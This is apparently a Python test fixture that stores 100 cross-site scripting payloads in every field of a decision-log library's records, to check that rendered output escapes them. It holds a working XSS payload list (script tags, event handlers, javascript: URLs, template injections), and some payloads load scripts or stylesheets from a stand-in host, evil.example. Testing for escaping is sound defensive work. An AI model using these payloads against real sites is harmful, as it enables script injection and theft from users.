"""A hundred texts, each of which runs, or asks another host for something, where text is markup.

Each calls `alert`, or reaches `evil.example`: what a test has to look out for.
"""

from itertools import product
from pathlib import Path

import anyio
from msgspec.structs import replace

from decisionlog import Evaluation, Option, RunStore, Runtime

_CALLS = ("alert(1)", "alert`1`", "window['al'+'ert'](1)")
_ELEMENTS = (
    "<script>{0}</script>",
    "<ScRiPt >{0}</sCrIpT>",
    "<img src=x onerror={0}>",
    '<img src="x" onerror="{0}">',
    "<svg onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<body onload={0}>",
    "<iframe srcdoc='<script>parent.{0}</script>'></iframe>",
    "<iframe src=javascript:{0}></iframe>",
    "<details open ontoggle={0}>",
    "<input autofocus onfocus={0}>",
    "<video><source onerror={0}>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror={0}>",
    "<a href=javascript:{0} id=x>go</a>",
    "<form action=javascript:{0}><button>go</button></form>",
    "<object data=javascript:{0}>",
    "<embed src=javascript:{0}>",
    "<marquee onstart={0}>",
    "<base href=javascript:{0}//>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'>",
    "<template><script>{0}</script></template>",
    "<style>@import 'http://evil.example/x.css';</style><img src=x onerror={0}>",
    "<style>*{{background:url(http://evil.example/x)}}</style><svg onload={0}>",
)
_BREAKS = (
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    '" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="',
    "' onmouseover='alert(1)' x='",
    "` onmouseover=alert(1) x=`",
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "#{alert(1)}",
    "<%= alert(1) %>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/x.js",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<!--<script>alert(1)//-->",
    "<script src=//evil.example/x.js></script>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
)

PAYLOADS = [element.format(call) for element, call in product(_ELEMENTS, _CALLS)] + list(_BREAKS)
assert len(PAYLOADS) == 100


def record_payloads(path: Path) -> list[str]:
    """A run for each payload, which stands in every field of the records; the ids, in order."""
    ids = []
    with Runtime(path) as runtime:
        for text in PAYLOADS:
            with runtime.run(text, text, {text: [text]}, tags={text: text}) as run:
                options = [
                    Option(text, text, text, {text: text}, [text], [text], 0.5, {text: text}),
                    Option("other", text),
                ]
                with runtime.decision(
                    text, options, text, text, text, constraints=[text], context={text: {text: 1}}
                ) as outer:
                    with runtime.decision(text, options, text, text, text) as inner:
                        inner.fail(text, summary=text, attributes={text: text}, model=text)
                    for severity in ("critical", "warning", "minor"):
                        outer.report_problem(severity, text, root_cause=text, suggested_fix=text)
                    outer.succeed({text: text}, summary=text, state_changes={text: text})
                run.fail(text, {text: text})
            ids.append(run.id)
    store = RunStore(path)
    judged = Evaluation(
        better_option_existed=True, better_option_id="other", why_better="w", explanation="e"
    )

    async def evaluate() -> None:
        for run_id, text in zip(ids, PAYLOADS, strict=True):
            own = replace(judged, better_option_id=text, why_better=text, explanation=text)
            await store.evaluate(run_id, "dec_0", own)

    anyio.run(evaluate)
    return ids
